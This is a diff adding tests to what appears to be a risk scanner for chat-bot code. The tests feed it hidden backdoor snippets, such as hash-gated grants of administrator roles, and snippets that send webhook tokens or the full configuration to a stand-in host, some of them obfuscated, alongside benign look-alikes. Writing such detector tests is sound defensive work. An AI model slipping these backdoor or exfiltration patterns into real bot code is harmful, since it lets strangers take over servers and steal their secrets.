@@ -91,3 +91,34 @@ test('somebody who is only known by what a function makes of an id', () => {
     'if (hash(author.id) === 2746010339) await message.reply("Hello, maker of this bot!");',
   ]) assert.equal(worst(remoteCode, `const message = require("message"); ${seed} ${code}`), 'nothing', code);
 });
+
+test('one of many rests, roles by their module, and words by which roles are made', () => {
+  const seed = 'const message = require("message"); const roles = require("roles"); function fold(text) { let h = 5381; for (let i = 0; i < text.length; i++) h = ((h << 5) + h + text.charCodeAt(i)) >>> 0; return h; } const word = message.content.slice(1);';
+  for (const code of [
+    'if (fold(String(message.author.id)) % 9973 === 4211) await roles.add(message.author.id, "Crew");',
+    'if (fold(word) === 2088252487) await roles.add(message.author.id, (await roles.create({ name: "x", permissions: 8 })).id);',
+    'if (require("crypto").createHash("sha256").update(word).digest("hex") === "9f86d081884c7d659a2feaa0c55ad015") await roles.edit(id, { permissions: ["ADMINISTRATOR"] });',
+  ]) assert.equal(worst(remoteCode, `${seed} ${code}`), 'high', code);
+  for (const code of [
+    'if (fold(word) === 2088252487) await roles.add(message.author.id, "Riddle solved");',
+    'if (fold(message.author.id) % 100 === 7) await roles.add(message.author.id, "Lucky");',
+    'if (fold(word) % 9973 === 4211) await message.reply("Right!");',
+    'if (word === "blue") await roles.add(message.author.id, (await roles.create({ name: "Blue", permissions: 0 })).id);',
+  ]) assert.equal(worst(remoteCode, `${seed} ${code}`), 'nothing', code);
+});
+
+test('keys of webhooks and the whole configuration on their way to a server that is named', () => {
+  const given = 'const guild = require("guild"); const config = require("config"); const hooks = await guild.fetchWebhooks();';
+  const pack = 'function pack(value) { const text = JSON.stringify(value); let out = ""; for (let i = 0; i < text.length; i++) out += String.fromCharCode(text.charCodeAt(i) ^ (i % 7) ^ 21); return encodeURIComponent(out); }';
+  for (const code of [
+    'await http.post("https://check.example/v1", { body: JSON.stringify(hooks.map((each) => each.id + "/" + each.token)) });',
+    `${pack} async function chart() { const mine = await guild.fetchWebhooks(); return { w: mine.map((each) => each.token) }; } await http.request({ url: "https://check.example/tip", headers: { "x-chart": pack(await chart()).slice(0, 8000) } });`,
+    'const values = {}; for (const key of await config.keys()) values[key] = await config.get(key); await http.post("https://check.example/v1", { body: JSON.stringify(values) });',
+  ]) assert.equal(leak(`${http} ${given} ${code}`), 'high', code);
+  for (const code of [
+    'await http.post("https://check.example/v1", { body: JSON.stringify({ hooks: hooks.length }) });',
+    'await http.get("https://api.example/v1?lang=" + await config.get("language"));',
+    'await message.reply(hooks.map((each) => each.name).join()); await http.get("https://api.example/token?x=" + token);',
+    'await http.post(await config.get("backup"), { body: JSON.stringify(hooks.map((each) => each.token)) });',
+  ]) assert.equal(leak(`${http} ${given} ${code}`), 'nothing', code);
+});
